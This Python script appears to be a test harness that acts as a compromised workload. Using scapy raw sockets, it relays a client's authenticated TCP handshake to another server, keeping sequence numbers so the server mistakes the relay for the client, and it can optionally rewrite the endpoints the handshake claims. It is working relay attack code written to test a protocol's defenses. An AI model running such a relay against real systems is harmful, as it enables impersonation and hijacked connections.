#!/usr/bin/env python3
"""Handshake relay (issue 11): run inside a compromised workload that an
honest client dials. It passes the client's handshake on to another server
from its own address and the server's answers back to the client, with
raw sockets, so that the server would take the relay for the client:

  client SYN  (token, Nc)            -> same payload and options, ISN and
                                        TCP options in our SYN to the server
  server SYN-ACK (token, Ns, proofS) -> same payload and options, ISN and
                                        ack in our SYN-ACK to the client
  client ACK (proofC option), data   -> to the server, and the server's
                                        packets back to the client

Sequence numbers are kept, so every packet is valid on both connections:
only addresses and ports differ. The workload's own rules must be flushed
and its kernel's RSTs dropped (the test does both): its kernel knows
neither connection.

With --rewrite-endpoints the SYN's claimed endpoints (protocol version 2,
IPv4) are rewritten to the relay's own connection to the server, so the
server answers; the client must then refuse the server's proof.

Prints "ready" once it listens, then one JSON object of what it relayed
when --duration is over.
"""
import argparse
import json
import random
import socket
import struct
import sys
import time

from scapy.all import IP, TCP, Raw, AsyncSniffer, conf  # noqa: E402


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--self", required=True, help="this workload's address")
    ap.add_argument("--port", type=int, required=True, help="port the client dials here")
    ap.add_argument("--server", required=True, help="server to relay to")
    ap.add_argument("--server-port", type=int, required=True)
    ap.add_argument("--duration", type=float, default=6.0)
    ap.add_argument("--rewrite-endpoints", action="store_true")
    a = ap.parse_args()

    relay_port = random.randint(20000, 60000)
    out = conf.L3socket()
    state = {"client": None, "client_port": None}
    counts = {"syn_relayed": 0, "synack_from_server": 0, "synack_relayed": 0,
              "to_server": 0, "to_client": 0, "relay_port": relay_port}

    def fwd(p, src, sport, dst, dport):
        t = p[TCP]
        pkt = IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, flags=t.flags, seq=t.seq,
                                         ack=t.ack, window=t.window, options=t.options)
        payload = bytes(t.payload)
        if payload:
            pkt = pkt / Raw(payload)
        out.send(pkt)

    def handle(p):
        if IP not in p or TCP not in p or p[IP].dst != a.self:
            return  # our own packets, seen on the way out
        ip, t = p[IP], p[TCP]
        syn, ack = bool(t.flags & 0x02), bool(t.flags & 0x10)
        if t.dport == a.port:  # from the client
            state["client"], state["client_port"] = ip.src, t.sport
            if syn and not ack:
                payload = bytes(t.payload)
                counts["syn_type"] = payload[0] if payload else 0
                if a.rewrite_endpoints and len(payload) > 30 and payload[17] == 4:
                    ends = struct.pack("!4sH4sH", socket.inet_aton(a.self), relay_port,
                                       socket.inet_aton(a.server), a.server_port)
                    payload = payload[:18] + ends + payload[30:]
                pkt = IP(src=a.self, dst=a.server) / TCP(sport=relay_port, dport=a.server_port, flags="S",
                                                         seq=t.seq, window=t.window, options=t.options)
                out.send(pkt / Raw(payload) if payload else pkt)
                counts["syn_relayed"] += 1
            else:
                fwd(p, a.self, relay_port, a.server, a.server_port)
                counts["to_server"] += 1
        elif ip.src == a.server and t.sport == a.server_port and t.dport == relay_port and state["client"]:
            if syn:
                counts["synack_from_server"] += 1
            fwd(p, a.self, a.port, state["client"], state["client_port"])
            counts["synack_relayed" if syn else "to_client"] += 1

    sniffer = AsyncSniffer(iface="eth0", prn=handle, store=False)
    sniffer.start()
    deadline = time.time() + 5
    while not getattr(sniffer, "running", False) and time.time() < deadline:
        time.sleep(0.05)
    time.sleep(0.3)  # the capture socket is open once running is set; be sure
    print("ready", flush=True)
    time.sleep(a.duration)
    sniffer.stop()
    print(json.dumps(counts), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
